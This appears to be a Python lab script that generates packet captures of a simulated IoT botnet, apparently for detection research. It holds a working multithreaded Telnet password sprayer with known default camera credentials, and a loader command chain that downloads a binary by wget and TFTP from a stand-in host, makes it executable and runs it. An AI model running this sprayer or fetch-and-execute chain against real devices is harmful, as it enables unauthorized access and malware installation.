"""A camera that belongs to a botnet: it tries well-known passwords at every Telnet port it finds, as a script; and a
device that was compromised is ordered to fetch a program, which it does by wget and by TFTP. What is fetched are zeroes
behind the head of an executable. Needs wget, tftp-hpa.

Run it as ``python -m pcaps.lab.attacks.botnet [SCENE...]``.
"""

from __future__ import annotations

import sys
import time
from collections.abc import Iterator
from pathlib import Path

from pcaps._office_hosts import cameras
from pcaps.lab._lab import Lab, record

LOADER = "203.0.113.80"
SPRAYER = """
import random, socket, sys, threading
pairs = [("root", "xc3511"), ("root", "vizxv"), ("admin", "admin"), ("root", "888888"), ("root", "default"), ("support", "support")]
def heard(sock, word):
    said = b""
    while word not in said:
        some = sock.recv(1024)
        if not some:
            raise OSError
        said += some
def attempt(ip, user, password):
    with socket.create_connection((ip, 23), timeout=3) as sock:
        heard(sock, b"login:")
        sock.sendall(user.encode() + b"\\r\\n")
        heard(sock, b"Password:")
        sock.sendall(password.encode() + b"\\r\\n")
        heard(sock, b"\\n")
def visit(ip):
    try:
        for user, password in pairs:
            attempt(ip, user, password)
    except OSError:
        pass
threads = [threading.Thread(target=visit, args=(ip,)) for ip in sys.argv[1:]]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
"""
CHAIN = ("enable", "system", "shell", "sh", "cd /tmp || cd /var/run || cd /mnt", (
    f"wget http://{LOADER}/bins/lab.mips-4000.elf; chmod 777 "
    "lab.mips"
),
         f"tftp -g -r lab.arm7 {LOADER}; chmod 777 lab.arm7", "./lab.mips telnet", "/bin/busybox LABBOT")  # fmt: skip


def spray(lab: Lab) -> Iterator[None]:
    """Sixty addresses here, of which eight are devices with Telnet, and as many outside, which say nothing."""
    one = cameras()[1]
    for last in range(71, 79):
        lab.serve(
            lab.host(f"device-{last}", f"10.20.10.{last}", f"bc:ad:28:00:00:{last:02x}"),
            "telnet",
            "root",
            f"unguessed-{last}",
            port=23,
        )
    yield
    camera = lab.inhabitant(one)
    near, far = (
        (f"10.20.10.{last}" for last in range(40, 100) if last != 62),
        (f"198.51.100.{last}" for last in range(1, 61)),
    )
    lab.run(camera, sys.executable, "-c", SPRAYER, *near, *far)


def loader(lab: Lab) -> Iterator[None]:
    """The bot's loader logs in from outside and types its chain; the device does as it is told."""
    server = lab.outside("loader", LOADER)
    lab.serve(server, "pages", port=80)
    lab.serve(server, "tftp", port=69, proto="udp")
    one = cameras()[1]
    yield
    camera = lab.inhabitant(one)
    lab.serve(camera, "telnet", "root", "xc3511", port=23)
    typed = "; ".join(f"sleep 0.6; printf '{line}\\r\\n'" for line in ("root", "xc3511", *CHAIN, "exit"))
    lab.run(server, "sh", "-c", f"({typed}; sleep 1) | socat -t 3 - TCP:{camera.ip}:23")
    lab.run(camera, "wget", "-q", "-O", "/dev/null", "-U", "Wget", f"http://{LOADER}/bins/lab.mips-4000.elf")
    lab.run(camera, "sh", "-c", f"cd {lab.folder} && tftp -m binary {LOADER} -c get lab.arm7")
    time.sleep(1)


if __name__ == "__main__":
    record(Path(__file__).parent, botnet_spray=spray, botnet_loader=loader)
